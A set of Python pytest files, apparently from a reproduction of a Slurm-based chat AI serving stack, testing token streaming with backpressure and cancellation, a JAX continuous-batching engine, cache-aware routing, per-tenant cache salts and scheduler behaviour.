    # drain the world: nothing should be left running past its limit
    clock.run_for(100.0)
    running = [j for j in sl.jobs.values() if j.state == JobState.RUNNING]
    assert not running
    assert sl.gpu_totals()[0] == 0
