"""End-to-end token streaming (ISSUE 6 tentpole): engine sinks → cooperative
backend → cloud interface → proxy relay → gateway, with backpressure,
disconnect-cancel, tenant quotas, and byte-equivalence guarantees."""
import json
from types import SimpleNamespace

import pytest

from repro.core.deferred import Deferred, Stream, pipe
from repro.core.gateway import (
    APIGateway, Route, TenantQuotas, tenant_salt)
from repro.core.scheduler import ServiceSpec
from repro.core.service import ChatAI
from repro.slurmlite.clock import SimClock
from repro.slurmlite.instances import (
    Backend, InstanceRuntime, JaxEngineBackend, Request, Response)


# ---------------------------------------------------------------------------
# Stream flow control (core/deferred.py)
# ---------------------------------------------------------------------------

def test_stream_replays_backlog_to_late_consumer():
    s = Stream()
    s.emit(1)
    s.emit(2)
    got = []
    s.on_chunk(got.append)
    s.emit(3)
    s.end("fin")
    assert got == [1, 2, 3]
    assert s.done and s.value == "fin"


def test_stream_watermark_and_on_writable():
    s = Stream(max_buffer=2)
    assert s.writable
    s.emit("a")
    s.emit("b")                    # backlog at watermark, nobody consuming
    assert not s.writable
    fired = []
    s.on_writable(lambda: fired.append(True))
    assert not fired
    got = []
    s.on_chunk(got.append)         # consumer attaches, backlog drains
    assert got == ["a", "b"] and fired == [True] and s.writable


def test_stream_pause_holds_chunks_and_completion():
    s = Stream()
    got, done = [], []
    s.on_chunk(got.append)
    s.on_done(done.append)
    s.emit(1)
    s.pause()
    s.emit(2)
    s.end("fin")
    assert got == [1] and not done       # completion held behind backlog
    s.resume()
    assert got == [1, 2] and done == ["fin"]


def test_stream_pause_inside_chunk_callback_stops_delivery():
    s = Stream()
    got = []

    def consumer(c):
        got.append(c)
        if len(got) == 2:
            s.pause()
    s.on_chunk(consumer)
    for i in range(5):
        s.emit(i)
    assert got == [0, 1]
    s.resume()
    assert got == [0, 1, 2, 3, 4]


def test_stream_cancel_is_idempotent_and_drops_chunks():
    s = Stream()
    reasons = []
    s.on_cancel(reasons.append)
    got = []
    s.on_chunk(got.append)
    s.emit(1)
    s.cancel("gone")
    s.cancel("again")
    s.emit(2)                      # dropped on the floor
    s.end("fin")                   # absorbed quietly
    assert reasons == ["gone"]
    assert got == [1] and s.done and s.value == "fin"


def test_pipe_forwards_backpressure_and_cancel():
    up, down = Stream(), Stream(max_buffer=2)
    pipe(up, down)
    for i in range(5):
        up.emit(i)
    # nobody consumes `down`: it hit its watermark and paused `up`
    assert up.paused and down.buffered >= 2
    got = []
    down.on_chunk(got.append)      # consumer drains -> upstream resumes
    assert got == [0, 1, 2, 3, 4] and not up.paused
    up.end("fin")
    assert down.done and down.value == "fin"
    # cancel propagates upstream
    up2, down2 = Stream(), Stream()
    pipe(up2, down2)
    down2.cancel("client left")
    assert up2.cancelled and up2.cancel_reason == "client left"


# ---------------------------------------------------------------------------
# InstanceRuntime capability dispatch (satellite: no TypeError-catch retry)
# ---------------------------------------------------------------------------

def mk_instance(backend):
    clock = SimClock()
    inst = InstanceRuntime(clock, SimpleNamespace(node="n0"), "m", 1,
                           load_time=0.0, backend=backend)
    clock.run_for(0.001)           # LOADING -> READY
    return clock, inst


def _req(**kw):
    kw.setdefault("request_id", 1)
    kw.setdefault("model", "m")
    kw.setdefault("prompt_tokens", 4)
    kw.setdefault("max_new_tokens", 4)
    return Request(**kw)


def test_runtime_does_not_retry_backend_that_raises_typeerror():
    """Regression: the old try/except-TypeError fallback swallowed genuine
    TypeErrors raised *inside* the backend (or the done callback) and
    silently ran the request a second time without streaming."""
    calls = []

    class Exploding(Backend):
        def infer(self, inst, req, done, on_chunk=None):
            calls.append(1)
            raise TypeError("bug inside the backend")

    _, inst = mk_instance(Exploding())
    with pytest.raises(TypeError, match="inside the backend"):
        inst.infer(_req(), lambda r: None, on_chunk=lambda c: None)
    assert calls == [1]            # exactly one attempt, error surfaced


def test_runtime_supports_legacy_backend_without_on_chunk():
    class Legacy(Backend):
        def infer(self, inst, req, done):           # no on_chunk param
            done(Response(req.request_id, 200, tokens=[1, 2]))

    _, inst = mk_instance(Legacy())
    out = []
    handle = inst.infer(_req(), out.append, on_chunk=lambda c: None)
    assert handle is None
    assert out and out[0].status == 200


# ---------------------------------------------------------------------------
# Engine token sinks + cooperative backend (real JAX engine, both paths)
# ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def llama():
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize
    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))
    return cfg, params


def mk_engine(llama, **kw):
    from repro.serving.engine import Engine
    cfg, params = llama
    kw.setdefault("max_num_seqs", 3)
    kw.setdefault("max_model_len", 64)
    kw.setdefault("block_size", 8)
    return Engine(cfg, params, **kw)


@pytest.mark.parametrize("fast", [True, False], ids=["fast", "legacy"])
def test_engine_sink_sees_every_token_in_order(llama, fast):
    from repro.serving.sampling import SamplingParams
    e = mk_engine(llama, fast_path=fast)
    rid = e.submit(list(range(1, 8)), SamplingParams(max_new_tokens=9))
    seen = []
    e.add_sink(rid, lambda idx, tok: seen.append((idx, tok)))
    while e.has_work():
        e.step()
    r = e.requests[rid]
    assert [t for _, t in seen] == list(r.output)
    assert all(idx == 0 for idx, _ in seen)


@pytest.mark.parametrize("fast", [True, False], ids=["fast", "legacy"])
def test_engine_sink_tags_children_in_sequence_groups(llama, fast):
    from repro.serving.sampling import SamplingParams
    e = mk_engine(llama, fast_path=fast)
    rid = e.submit(list(range(1, 6)), SamplingParams(
        max_new_tokens=6, temperature=0.8, n=2, best_of=2, seed=11))
    per_child: dict[int, list] = {}
    e.add_sink(rid, lambda idx, tok: per_child.setdefault(idx, []).append(tok))
    while e.has_work():
        e.step()
    g = e.group_of(rid)
    assert sorted(per_child) == [0, 1]
    by_idx = {r.child_idx: list(r.output) for r in g.requests}
    assert per_child == by_idx     # streamed per-child == final per-child


def test_pause_group_stops_decode_and_resume_completes(llama):
    from repro.serving.sampling import SamplingParams
    e = mk_engine(llama)
    rid = e.submit(list(range(1, 6)), SamplingParams(max_new_tokens=8))
    for _ in range(4):
        e.step()
    n_before = len(e.requests[rid].output)
    assert 0 < n_before < 8
    e.pause_group(rid)
    e.step()                       # harvests the one already-dispatched
    n_frozen = len(e.requests[rid].output)   # fast-path in-flight token
    assert n_frozen <= n_before + 1
    for _ in range(6):
        e.step()
    assert len(e.requests[rid].output) == n_frozen   # frozen while paused
    assert not e.has_runnable_work()
    e.resume_group(rid)
    while e.has_work():
        e.step()
    # identical tokens to an uninterrupted greedy run
    ref = mk_engine(llama).generate(list(range(1, 6)), 8)
    assert list(e.requests[rid].output) == ref


def run_cooperative(llama, *, fast, stream, payload_extra=None,
                    max_new_tokens=10):
    """One request through JaxEngineBackend on a SimClock."""
    e = mk_engine(llama, fast_path=fast)
    clock = SimClock()
    inst = SimpleNamespace(clock=clock, active=0)
    be = JaxEngineBackend(e)
    payload = {"prompt_ids": list(range(1, 7))}
    payload.update(payload_extra or {})
    req = Request(request_id=5, model="m", prompt_tokens=6,
                  max_new_tokens=max_new_tokens, stream=stream,
                  payload=payload)
    out, s = {}, Stream()
    chunks = []
    s.on_chunk(chunks.append)
    be.infer(inst, req, lambda r: out.setdefault("r", r),
             on_chunk=s if stream else None)
    clock.run_for(30)
    return out.get("r"), chunks, e


@pytest.mark.parametrize("fast", [True, False], ids=["fast", "legacy"])
def test_streamed_bytes_identical_to_nonstreamed(llama, fast):
    """Acceptance: for a seeded request, the streamed SSE deltas reassemble
    byte-identically to the non-streamed completion — on both engine
    paths."""
    from repro.serving.api import default_token_decode, parse_sse
    extra = {"temperature": 0.7, "seed": 42}
    streamed, chunks, _ = run_cooperative(llama, fast=fast, stream=True,
                                          payload_extra=extra)
    plain, no_chunks, _ = run_cooperative(llama, fast=fast, stream=False,
                                          payload_extra=extra)
    assert streamed.status == 200 and plain.status == 200
    assert not no_chunks
    assert list(streamed.tokens) == list(plain.tokens)
    events = parse_sse(b"".join(chunks))
    toks = [ev["choices"][0]["token"] for ev in events]
    text = "".join(ev["choices"][0]["delta"]["content"] for ev in events)
    assert toks == list(streamed.tokens)
    assert text == default_token_decode(plain.tokens)


def test_streamed_sequence_group_carries_choice_indexes(llama):
    from repro.serving.api import parse_sse
    extra = {"temperature": 0.8, "seed": 7, "n": 2, "best_of": 2}
    resp, chunks, _ = run_cooperative(llama, fast=True, stream=True,
                                      payload_extra=extra, max_new_tokens=6)
    assert resp.status == 200 and len(resp.choices) == 2
    per_idx: dict[int, list] = {}
    for ev in parse_sse(b"".join(chunks)):
        c = ev["choices"][0]
        per_idx.setdefault(c["index"], []).append(c["token"])
    assert sorted(per_idx) == [0, 1]
    # every final choice was streamed, token for token, under some index
    assert sorted(per_idx.values()) == sorted(resp.choices)


def test_backpressure_pauses_engine_and_resumes_lossless(llama):
    """A consumer lagging past the stream watermark must pause the group
    in the engine (pump stalls — finite events) and resume losslessly."""
    e = mk_engine(llama, enable_prefix_caching=False)
    clock = SimClock()
    inst = SimpleNamespace(clock=clock, active=0)
    be = JaxEngineBackend(e)
    req = Request(request_id=9, model="m", prompt_tokens=6,
                  max_new_tokens=12, stream=True,
                  payload={"prompt_ids": list(range(1, 7))})
    out = {}
    s = Stream(max_buffer=3)       # tiny watermark, nobody consuming yet
    be.infer(inst, req, lambda r: out.setdefault("r", r), on_chunk=s)
    clock.run_for(30)              # finite: the pump stalls when paused
    assert "r" not in out
    assert 3 <= len(s.chunks) <= 4           # stopped at the watermark
    assert not e.has_runnable_work()         # group parked, zero busy-work
    got = []
    s.on_chunk(got.append)         # consumer arrives, drains the backlog
    clock.run_for(60)              # writable callback restarted the pump
    assert out["r"].status == 200
    assert len(got) == 12          # every token delivered exactly once
    from repro.serving.api import parse_sse
    toks = [ev["choices"][0]["token"] for ev in parse_sse(b"".join(got))]
    assert toks == list(out["r"].tokens)


def test_disconnect_cancel_frees_kv_blocks_mid_generation(llama):
    """Acceptance: a dropped stream aborts the group and measurably
    reclaims its KV blocks."""
    e = mk_engine(llama, enable_prefix_caching=False, max_model_len=64)
    clock = SimClock()
    inst = SimpleNamespace(clock=clock, active=0)
    be = JaxEngineBackend(e)
    free0 = e.bm.free_blocks
    req = Request(request_id=3, model="m", prompt_tokens=16,
                  max_new_tokens=40, stream=True,
                  payload={"prompt_ids": list(range(1, 17))})
    out, s = {}, Stream()
    chunks = []
    s.on_chunk(chunks.append)
    cancel = be.infer(inst, req, lambda r: out.setdefault("r", r),
                      on_chunk=s)
    clock.run_for(0.1)             # some tokens out, far from done
    assert 0 < len(chunks) < 40
    assert e.bm.free_blocks < free0          # generation holds blocks
    cancel()
    assert out["r"].status == 499
    assert e.bm.free_blocks == free0         # all blocks reclaimed
    n = len(chunks)
    clock.run_for(5)
    assert len(chunks) == n and not e.has_work()   # stream went quiet
    assert cancel() is None        # idempotent


# ---------------------------------------------------------------------------
# Full stack: gateway -> proxy -> cloud script -> instance
# ---------------------------------------------------------------------------

def build_fleet(**kw):
    services = kw.pop("services", None) or [
        ServiceSpec(name="llama", arch="llama3.2-1b", load_time=30.0,
                    gpus_per_instance=1, max_instances=2)]
    chat = ChatAI.build_sim(services=services, **kw)
    chat.warm_up()
    return chat


def open_stream(chat, sess, max_tokens=200, text="stream me"):
    r = chat.chat(session=sess, model="llama",
                  messages=[{"role": "user", "content": text}],
                  max_tokens=max_tokens, stream=True)
    chunks, final, streams = [], {}, []

    def hook(stream):
        if not hasattr(stream, "on_chunk"):       # upstream error value
            final.setdefault("resp", stream)
            return
        streams.append(stream)
        stream.on_chunk(chunks.append)
        stream.on_done(lambda v: final.setdefault("resp", v))
    if r.deferred is not None:
        r.deferred.on_done(hook)
    return r, chunks, final, streams


def test_full_stack_streaming_with_real_engine(llama):
    """The tentpole, end to end on the real engine: SSE frames emitted by
    the engine-side sink arrive byte-identical through boundary, proxy
    relay, and gateway; the completion carries the same tokens."""
    from repro.serving.api import default_token_decode, parse_sse

    def factory():
        return JaxEngineBackend(mk_engine(llama, max_num_seqs=4))

    chat = build_fleet(services=[ServiceSpec(
        name="llama", arch="llama3.2-1b", load_time=10.0,
        gpus_per_instance=1, max_instances=1, backend_factory=factory)])
    sess = chat.login("alice@uni-goettingen.de")
    r, chunks, final, _ = open_stream(chat, sess, max_tokens=8,
                                      text="hello world")
    assert r.status == 200
    chat.clock.run_for(30)
    resp = final["resp"]
    assert resp.status == 200 and len(resp.tokens) == 8
    events = parse_sse(b"".join(chunks))
    assert [ev["choices"][0]["token"] for ev in events] == list(resp.tokens)
    text = "".join(ev["choices"][0]["delta"]["content"] for ev in events)
    assert text == default_token_decode(resp.tokens)
    assert chat.metrics.counter("proxy_streams_relayed").value == 1
    assert chat.metrics.counter("gw_stream_tokens_total").value == 8
    assert chat.metrics.gauges["gw_active_streams"].value == 0


def test_full_stack_disconnect_cancels_generation():
    """Client hangs up mid-stream: the cancel propagates gateway-side
    stream -> proxy relay -> cloud script -> instance cancel handle."""
    chat = build_fleet()
    sess = chat.login("alice@uni-goettingen.de")
    _, chunks, final, streams = open_stream(chat, sess, max_tokens=200)
    chat.clock.run_for(1.0)        # a few chunks in
    assert streams and 0 < len(chunks) < 200
    n = len(chunks)
    streams[0].cancel("client closed the tab")
    chat.clock.run_for(30)
    assert len(chunks) == n                      # nothing after the cancel
    backend = chat.scheduler.registry.all()[0].backend
    assert backend.cancelled_requests == 1       # generation aborted
    assert chat.metrics.counter("requests_cancelled").value == 1
    assert chat.metrics.gauges["gw_active_streams"].value == 0
    # the cancelled slot is free again: a new stream completes normally
    _, chunks2, final2, _ = open_stream(chat, sess, max_tokens=10)
    chat.clock.run_for(30)
    assert final2["resp"].status == 200 and len(chunks2) == 10


def test_full_stack_link_cut_mid_stream_fails_fast():
    """Satellite: a proxy link cut mid-stream resolves the stream with an
    error (never hangs) and cancels the HPC-side generation."""
    chat = build_fleet()
    sess = chat.login("alice@uni-goettingen.de")
    _, chunks, final, _ = open_stream(chat, sess, max_tokens=2000)
    chat.clock.run_for(1.0)
    assert chunks and "resp" not in final
    chat.proxy.link.up = False
    chat.clock.run_for(10)         # next keepalive detects the cut
    resp = final["resp"]
    assert resp.exit_code == 255 and b"connection lost" in resp.stderr
    backend = chat.scheduler.registry.all()[0].backend
    assert backend.cancelled_requests == 1
    assert chat.metrics.gauges["gw_active_streams"].value == 0


def test_concurrent_stream_quota_429():
    chat = build_fleet(max_concurrent_streams=2)
    sess = chat.login("alice@uni-goettingen.de")
    r1, _, f1, _ = open_stream(chat, sess, max_tokens=100)
    r2, _, f2, _ = open_stream(chat, sess, max_tokens=100)
    r3 = chat.chat(session=sess, model="llama",
                   messages=[{"role": "user", "content": "x"}],
                   max_tokens=4, stream=True)
    assert (r1.status, r2.status) == (200, 200)
    assert r3.status == 429 and b"stream quota" in r3.body
    # non-streaming requests are not subject to the stream quota
    r4 = chat.chat(session=sess, model="llama",
                   messages=[{"role": "user", "content": "y"}], max_tokens=2)
    assert r4.status == 200
    chat.clock.run_for(60)         # both streams complete -> slots free
    assert f1["resp"].status == 200 and f2["resp"].status == 200
    r5, _, f5, _ = open_stream(chat, sess, max_tokens=4)
    assert r5.status == 200
    chat.clock.run_for(30)
    assert f5["resp"].status == 200


def test_tokens_per_min_throttles_by_pausing_not_dropping():
    chat = build_fleet(tokens_per_min=50)
    sess = chat.login("alice@uni-goettingen.de")
    t0 = chat.clock.now()
    _, chunks, final, streams = open_stream(chat, sess, max_tokens=200)
    chat.clock.run_for(0.1)        # let the stream reach the client
    times = []
    streams[0].on_chunk(lambda c: times.append(chat.clock.now()))
    chat.clock.run_for(400)
    assert final["resp"].status == 200
    assert len(chunks) == 200                    # lossless: delayed, kept
    assert chat.gateway.quotas.throttles >= 2
    # 200 tokens at 50/min cannot be delivered inside two windows: the
    # tail chunks were pushed past the second window edge
    assert times[-1] - t0 >= 120.0


def test_tenant_salt_defaulting_at_gateway():
    """Satellite: bodies without a cache_salt get a stable per-tenant
    default; explicit salts and non-JSON bodies pass through untouched."""
    clock = SimClock()
    gw = APIGateway(clock, salt_tenants=True)
    seen = []

    def upstream(method, path, model, body, user, stream):
        seen.append(body)
        d = Deferred()
        d.resolve("ok")
        return d

    gw.add_route(Route(name="chat", path_prefix="/v1/", upstream=upstream))
    gw.handle(method="POST", path="/v1/chat/completions", model="m",
              user_id="alice", body=json.dumps({"messages": []}).encode())
    gw.handle(method="POST", path="/v1/chat/completions", model="m",
              user_id="bob", body=json.dumps({"messages": []}).encode())
    gw.handle(method="POST", path="/v1/chat/completions", model="m",
              user_id="alice",
              body=json.dumps({"cache_salt": "mine"}).encode())
    gw.handle(method="POST", path="/v1/chat/completions", model="m",
              user_id="alice", body=b"\xffnot json")
    a, b, explicit, raw = seen
    assert json.loads(a)["cache_salt"] == tenant_salt("alice")
    assert json.loads(b)["cache_salt"] == tenant_salt("bob")
    assert json.loads(a)["cache_salt"] != json.loads(b)["cache_salt"]
    assert json.loads(explicit)["cache_salt"] == "mine"
    assert raw == b"\xffnot json"
    # the default salt carries no user-identifying plaintext
    assert "alice" not in json.loads(a)["cache_salt"]


def test_tenant_salts_route_to_disjoint_cache_chains():
    """With gateway salting on, two tenants sending the identical prompt
    must produce disjoint routed chain keys end to end."""
    from repro.core.prefix_index import request_chain_keys
    base = {"messages": [{"role": "system", "content": "S" * 256}]}
    k_alice = request_chain_keys(
        {**base, "cache_salt": tenant_salt("alice")}, 16)
    k_bob = request_chain_keys(
        {**base, "cache_salt": tenant_salt("bob")}, 16)
    assert k_alice and k_bob and not set(k_alice) & set(k_bob)
