"""Continuous-batching engine tests (the vLLM-analogue, paper §5.7)."""
import jax
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.models import param_defs
from repro.models.params import materialize
from repro.serving.engine import Engine, ReqState
from repro.serving.sampling import SamplingParams


@pytest.fixture(scope="module")
def llama():
    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))
    return cfg, params


def mk_engine(llama, **kw):
    cfg, params = llama
    kw.setdefault("max_num_seqs", 3)
    kw.setdefault("max_model_len", 64)
    kw.setdefault("block_size", 8)
    return Engine(cfg, params, **kw)


def test_generate_greedy_deterministic(llama):
    e1, e2 = mk_engine(llama), mk_engine(llama)
    prompt = np.arange(1, 11)
    assert e1.generate(prompt, 12) == e2.generate(prompt, 12)


def test_generate_matches_raw_forward(llama):
    """Engine (paged path) greedy output == straight-line cached decode."""
    import jax.numpy as jnp

    from repro.models import forward, init_cache, logits_last
    cfg, params = llama
    prompt = np.random.RandomState(0).randint(1, cfg.vocab_size, 9)
    out = mk_engine(llama).generate(prompt, 6)

    cache = init_cache(cfg, 1, 64)
    t = jnp.asarray(prompt, jnp.int32)[None]
    pos = jnp.arange(len(prompt))[None]
    hidden, cache, _ = forward(cfg, params, t, positions=pos, mode="prefill",
                               cache=cache)
    ref = [int(jnp.argmax(logits_last(cfg, params, hidden), -1)[0])]
    p = len(prompt)
    for _ in range(5):
        nxt = jnp.asarray([[ref[-1]]], jnp.int32)
        hidden, cache, _ = forward(cfg, params, nxt,
                                   positions=jnp.asarray([p], jnp.int32),
                                   mode="decode", cache=cache)
        ref.append(int(jnp.argmax(logits_last(cfg, params, hidden), -1)[0]))
        p += 1
    assert out == ref


def test_continuous_batching_interleaves(llama):
    e = mk_engine(llama)
    rs = np.random.RandomState(1)
    ids = [e.submit(rs.randint(1, 100, n),
                    SamplingParams(max_new_tokens=m))
           for n, m in [(5, 8), (9, 4), (3, 6), (7, 5)]]   # 4 reqs, 3 slots
    while e.has_work():
        e.step()
    for rid, m in zip(ids, [8, 4, 6, 5]):
        r = e.requests[rid]
        assert r.state == ReqState.FINISHED and len(r.output) == m
    assert e.bm.free_blocks == e.bm.num_blocks       # everything freed


def test_batched_identical_to_solo(llama):
    """Tokens for a request are identical whether it runs alone or batched
    with others (slot isolation)."""
    prompt = np.arange(1, 8)
    solo = mk_engine(llama).generate(prompt, 6)
    e = mk_engine(llama)
    rid = e.submit(prompt, SamplingParams(max_new_tokens=6))
    e.submit(np.arange(20, 29), SamplingParams(max_new_tokens=9))
    e.submit(np.arange(40, 45), SamplingParams(max_new_tokens=7))
    while e.has_work():
        e.step()
    assert e.requests[rid].output == solo


def test_preemption_recompute_policy(llama):
    """With a tiny block pool, the youngest sequence is preempted and later
    recomputed — output must still be correct."""
    cfg, params = llama
    p1, p2 = np.arange(1, 7), np.arange(30, 44)
    want1 = mk_engine(llama).generate(p1, 20)
    want2 = mk_engine(llama).generate(p2, 14)

    # 5 blocks of 8: r1 wants 4 blocks eventually, r2 holds 3 — the OLDER
    # r1 hits OutOfBlocks mid-decode and must steal from the younger r2
    e = mk_engine(llama, num_blocks=5, max_num_seqs=2)
    r1 = e.submit(p1, SamplingParams(max_new_tokens=20))
    r2 = e.submit(p2, SamplingParams(max_new_tokens=14))
    while e.has_work():
        e.step()
    assert e.requests[r1].state == ReqState.FINISHED
    assert e.requests[r2].state == ReqState.FINISHED
    assert e.requests[r2].preemptions >= 1, \
        "the younger sequence should have been preempted"
    # recompute-preemption must not change either output
    assert e.requests[r1].output == want1
    assert e.requests[r2].output == want2


def test_stop_token_ends_generation(llama):
    cfg, params = llama
    e = mk_engine(llama)
    # discover the greedy continuation, then use its 3rd token as stop
    probe = e.generate(np.arange(1, 8), 8)
    stop = probe[2]
    e2 = mk_engine(llama)
    rid = e2.submit(np.arange(1, 8),
                    SamplingParams(max_new_tokens=8, stop_token=stop))
    while e2.has_work():
        e2.step()
    # generation ends at the FIRST occurrence of the stop token (inclusive)
    want = probe[:probe.index(stop) + 1]
    assert e2.requests[rid].output == want


def test_request_too_long_rejected(llama):
    # a real ValueError, not an assert — asserts vanish under `python -O`
    # and the API layer maps this to an HTTP 400
    e = mk_engine(llama)
    with pytest.raises(ValueError, match="max_model_len"):
        e.submit(np.arange(1, 60), SamplingParams(max_new_tokens=10))


def test_empty_prompt_rejected(llama):
    e = mk_engine(llama)
    with pytest.raises(ValueError, match="non-empty"):
        e.submit(np.array([], np.int32))


def test_temperature_sampling_varies_with_seed(llama):
    cfg, params = llama
    e1 = Engine(cfg, params, max_num_seqs=2, max_model_len=64, seed=1)
    e2 = Engine(cfg, params, max_num_seqs=2, max_model_len=64, seed=2)
    o1 = e1.generate(np.arange(1, 9), 12, temperature=1.5)
    o2 = e2.generate(np.arange(1, 9), 12, temperature=1.5)
    assert o1 != o2          # overwhelmingly likely with 12 hot tokens


def test_block_utilization_tracked(llama):
    e = mk_engine(llama)
    e.submit(np.arange(1, 10), SamplingParams(max_new_tokens=4))
    e.step()
    u = e.bm.utilization()
    assert 0.5 < u <= 1.0
