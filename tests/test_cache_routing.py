"""Cache-aware routing through the whole stack: scheduler heartbeats
publish instance block keys into the prefix index, reaping/TTL retract
them, and the cloud interface routes shared-prefix traffic to the warm
replica (bounded by the skew guard) instead of the paper's random pick."""
import pytest

from repro.core.scheduler import ServiceSpec
from repro.core.service import ChatAI

# long enough that the byte-level head spans many 16-byte key blocks
SYSTEM = ("You are Chat AI, the Slurm-native assistant of the GWDG "
          "HPC centre. Answer carefully and cite the paper. ") * 4


def build(min_instances=2, **spec_kw):
    services = [ServiceSpec(name="llama", arch="llama3.2-1b",
                            load_time=30.0, gpus_per_instance=1,
                            min_instances=min_instances,
                            max_instances=max(min_instances, 4), **spec_kw)]
    chat = ChatAI.build_sim(services=services)
    chat.warm_up()
    return chat


def ask(chat, sess, user_text, max_tokens=8, run_s=60):
    r = chat.chat(session=sess, model="llama",
                  messages=[{"role": "system", "content": SYSTEM},
                            {"role": "user", "content": user_text}],
                  max_tokens=max_tokens)
    out = {}
    if r.deferred is not None:
        r.deferred.on_done(lambda v: out.setdefault("v", v))
    if run_s:
        chat.clock.run_for(run_s)
    return r, out.get("v")


def backends(chat):
    return [inst.backend for inst in chat.scheduler.registry.all()]


def test_heartbeat_publishes_resident_keys():
    chat = build(min_instances=1)
    sess = chat.login("alice@uni-goettingen.de")
    _, resp = ask(chat, sess, "warm me up")
    assert resp.status == 200
    ix = chat.scheduler.prefix_index
    assert ix.num_instances == 1
    assert ix.num_keys > 0
    e = chat.scheduler.table.entries("llama")[0]
    assert ix._keys[e.job_id]            # the ready entry's keys
    assert chat.metrics.gauges["prefix_index_keys"].value > 0


def test_sequential_shared_prefix_sticks_to_one_replica():
    chat = build(min_instances=2)
    sess = chat.login("alice@uni-goettingen.de")
    for i in range(6):
        _, resp = ask(chat, sess, f"question number {i}")
        assert resp.status == 200
    served = sorted(inst.served for inst in chat.scheduler.registry.all())
    # first request lands somewhere cold; after its heartbeat every
    # follow-up must chase the warm replica
    assert served == [0, 6], f"traffic split unexpectedly: {served}"
    assert chat.metrics.counter("route_affinity_hits").value >= 5
    assert sum(b.prefill_tokens_cached for b in backends(chat)) > 0


def test_affinity_off_salt_changes_do_not_match():
    """Different cache salts must hash to disjoint chains end to end."""
    from repro.core.prefix_index import request_chain_keys
    b1 = {"messages": [{"role": "system", "content": SYSTEM}],
          "cache_salt": "tenantA"}
    b2 = {"messages": [{"role": "system", "content": SYSTEM}],
          "cache_salt": "tenantB"}
    k1, k2 = request_chain_keys(b1, 16), request_chain_keys(b2, 16)
    assert k1 and k2 and not set(k1) & set(k2)


def test_concurrent_burst_spreads_past_skew_guard():
    chat = build(min_instances=3)
    sess = chat.login("alice@uni-goettingen.de")
    # warm one replica, then fire a concurrent burst of the same prefix
    ask(chat, sess, "warmup")
    results = []
    for i in range(12):
        r = chat.chat(session=sess, model="llama",
                      messages=[{"role": "system", "content": SYSTEM},
                                {"role": "user", "content": f"burst {i}"}],
                      max_tokens=64)
        results.append(r)
        r.deferred.on_done(lambda v: None)
    chat.clock.run_for(120)
    served = sorted(inst.served for inst in chat.scheduler.registry.all())
    assert sum(served) == 13
    # the warm replica must NOT have absorbed the whole burst
    assert served[-1] < 13, f"skew guard never spilled: {served}"
    assert sum(1 for s in served if s > 0) >= 2
    assert chat.metrics.counter("route_affinity_skew_spills").value >= 1


def test_reap_retracts_dead_instance_from_index():
    chat = build(min_instances=1)
    sess = chat.login("alice@uni-goettingen.de")
    ask(chat, sess, "warm")
    ix = chat.scheduler.prefix_index
    e = chat.scheduler.table.entries("llama")[0]
    assert e.job_id in ix._keys
    chat.slurm.fail_node(e.node)
    chat.clock.run_for(60)
    assert e.job_id not in ix._keys
    assert ix.retractions >= 1
    # ... and the replacement instance starts publishing again
    chat.clock.run_for(120)
    assert ix.num_instances >= 1


def test_silent_instance_ages_out_via_ttl():
    """An instance that stops answering probes (but whose job is still in
    squeue) must drop out of the index after the TTL, not linger."""
    chat = build(min_instances=1)
    sess = chat.login("alice@uni-goettingen.de")
    ask(chat, sess, "warm")
    ix = chat.scheduler.prefix_index
    assert ix.num_instances == 1
    for inst in chat.scheduler.registry.all():
        inst.kill()                      # probe now 503; job still RUNNING
    chat.clock.run_for(ix.ttl_s + 15)
    assert ix.num_instances == 0


def test_jax_engine_backend_threads_cache_salt():
    """Regression: the real-engine backend must pass the request's
    cache_salt through to the engine — routed chain keys include the salt,
    so resident keys must too, and it is what keeps differently-salted
    tenants off each other's blocks on-instance."""
    from repro.slurmlite.clock import SimClock
    from repro.slurmlite.instances import JaxEngineBackend, Request

    class FakeReq:
        output = [1, 2]
        t_first_token = 0.0

    class FakeGroup:
        def __init__(self, r):
            self._r = r
            self.finished = True

        def best(self, n):
            return [self._r]

    class FakeEngine:
        def __init__(self):
            self.requests, self.groups = {}, {}

        def submit(self, prompt, params, cache_salt=""):
            self.seen_salt = cache_salt
            r = FakeReq()
            self.requests[7], self.groups[7] = r, FakeGroup(r)
            return 7

        def step(self):
            return 0

        def has_runnable_work(self):
            return bool(self.groups)

    clock = SimClock()

    class FakeInst:
        active = 0

    FakeInst.clock = clock
    eng = FakeEngine()
    out = []
    JaxEngineBackend(eng).infer(
        FakeInst(),
        Request(request_id=1, model="m", prompt_tokens=2, max_new_tokens=2,
                payload={"prompt_ids": [1, 2], "cache_salt": "tenantA"}),
        out.append)
    assert eng.seen_salt == "tenantA"
    clock.run_for(1.0)              # pump tick harvests the finished group
    assert out and out[0].tokens == [1, 2]


def test_routing_metrics_exposed():
    chat = build(min_instances=2)
    sess = chat.login("alice@uni-goettingen.de")
    for i in range(3):
        ask(chat, sess, f"q{i}")
    text = chat.metrics.render_prometheus()
    assert "route_affinity_hits" in text
    assert "prefix_index_keys" in text
    assert "prefix_index_instances" in text
