"""The Chat AI scheduler script (paper §5.6): desired-state reconciliation,
readiness probing, autoscaling, port allocation, lock file."""
import os
import tempfile

import pytest

from repro.core.scheduler import (
    ChatScheduler, FileLock, LoadTracker, ServiceSpec)
from repro.slurmlite import (
    InstanceRegistry, JobState, Node, SlurmCluster)
from repro.slurmlite.clock import SimClock


def mk(n_nodes=4, gpus=4, **spec_kw):
    clock = SimClock()
    sl = SlurmCluster(clock, [Node(f"n{i}", gpus) for i in range(n_nodes)])
    spec = ServiceSpec(name="m", arch="llama3.2-1b", gpus_per_instance=1,
                       load_time=30.0, **spec_kw)
    sched = ChatScheduler(clock, sl, [spec],
                          lock_path=tempfile.mktemp())
    return clock, sl, sched, spec


def pump(clock, sched, seconds, period=5.0):
    """Drive keep-alive-triggered scheduler ticks."""
    t_end = clock.now() + seconds
    while clock.now() < t_end:
        clock.run_for(period)
        sched.tick()


def test_min_instances_maintained():
    clock, sl, sched, spec = mk()
    sched.tick()
    assert len(sched.table.entries("m")) == 1
    pump(clock, sched, 60)
    es = sched.table.entries("m")
    assert len(es) == 1 and es[0].ready


def test_job_replaced_after_failure():
    clock, sl, sched, spec = mk()
    pump(clock, sched, 60)
